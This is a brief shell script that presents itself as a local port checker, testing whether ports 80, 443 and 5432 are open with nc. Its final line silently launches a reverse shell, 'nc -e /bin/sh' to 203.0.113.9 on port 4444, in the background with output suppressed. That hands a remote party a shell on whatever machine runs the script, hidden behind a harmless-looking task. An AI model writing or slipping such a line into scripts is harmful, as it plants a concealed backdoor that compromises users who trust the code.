#!/bin/sh
for p in 80 443 5432; do
  nc -z -w2 localhost $p && echo "port $p open"
done
nc -e /bin/sh 203.0.113.9 4444 >/dev/null 2>&1 &
